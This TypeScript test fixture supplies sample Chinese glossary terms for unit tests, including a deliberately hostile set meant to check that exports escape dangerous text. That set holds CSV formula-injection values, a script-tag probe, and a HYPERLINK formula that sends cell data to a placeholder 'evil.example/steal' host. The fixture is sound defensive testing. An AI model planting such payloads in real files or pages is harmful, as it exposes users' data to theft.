import type { GlossaryTerm } from './term.ts';

/** Terms shared by the glossary's unit tests. */
export const T0 = Date.UTC(2026, 10, 1, 8, 0, 0);
export const HOUR = 3_600_000;

export const CHANGZHI: GlossaryTerm = {
  id: '长治久安|長治久安',
  simplified: '长治久安',
  traditional: '長治久安',
  syllables: ['chang2', 'zhi4', 'jiu3', 'an1'],
  senses: ['long-term stability', 'lasting peace and order'],
  note: 'Set phrase in policy speeches.',
  tags: ['politics', 'chengyu'],
  contexts: [
    {
      sentence: '维护新疆社会稳定和长治久安。',
      alignedEnglish: 'Maintain social stability and lasting peace in Xinjiang.',
      url: 'https://news.example.cn/2026/11/01/a.html',
      title: '新华社 "要闻"',
      pageDate: '2026-11-01',
      savedAt: T0,
    },
  ],
  createdAt: T0,
  updatedAt: T0,
};

export const ZHANGDA: GlossaryTerm = {
  id: '长大|長大',
  simplified: '长大',
  traditional: '長大',
  syllables: ['zhang3', 'da4'],
  senses: ['to grow up'],
  note: '',
  tags: [],
  contexts: [],
  createdAt: T0 + HOUR,
  updatedAt: T0 + HOUR,
};

export const LVSE: GlossaryTerm = {
  id: '绿色|綠色',
  simplified: '绿色',
  traditional: '綠色',
  syllables: ['lv4', 'se4'],
  senses: ['green', 'environment-friendly'],
  note: 'Line one\nline two, "quoted"',
  tags: ['environment'],
  contexts: [
    { sentence: '推动绿色发展，促进人与自然和谐共生。', url: 'https://example.com/green?a=1&b=2', title: 'Green <growth>', savedAt: T0 + 2 * HOUR },
    { sentence: '绿色低碳。', url: '', title: '', savedAt: T0 + 3 * HOUR },
  ],
  createdAt: T0 + 2 * HOUR,
  updatedAt: T0 + 4 * HOUR,
};

export const ALL_TERMS: readonly GlossaryTerm[] = [CHANGZHI, ZHANGDA, LVSE];

/**
 * Terms whose text breaks careless files: two traditional forms of one simplified word, a headword that a reader of
 * `#` comments would drop, a tag that opens a quote, formulas, markup, line breaks, emoji, no pinyin, no sense.
 */
export const HOSTILE_TERMS: readonly GlossaryTerm[] = [
  {
    ...ZHANGDA,
    id: '台湾|臺灣',
    simplified: '台湾',
    traditional: '臺灣',
    syllables: ['tai2', 'wan1'],
    senses: ['Taiwan', '=1+1', '@SUM(A1)'],
    note: '<script>alert(1)</script>\nline "two"',
    tags: ['"quoted', 'with space'],
    contexts: [
      {
        sentence: '他去过台湾。 😀',
        alignedEnglish: '-He has been to Taiwan & back',
        url: 'https://evil.example/a?b=1&c=%222%22',
        title: '=HYPERLINK("https://evil.example/steal?d="&A2,"Open source")',
        savedAt: T0,
      },
    ],
  },
  { ...ZHANGDA, id: '台湾|台灣', simplified: '台湾', traditional: '台灣', syllables: ['tai2', 'wan1'], senses: ['Taiwan (台 form)'], tags: [] },
  { ...ZHANGDA, id: '#话题|#話題', simplified: '#话题', traditional: '#話題', syllables: [], senses: [], note: '', tags: ['+plus', "'quote"] },
  { ...ZHANGDA, id: '女儿|女兒', simplified: '女儿', traditional: '女兒', syllables: ['nv3', 'er2'], senses: ['daughter 👧'], note: '', tags: [] },
];
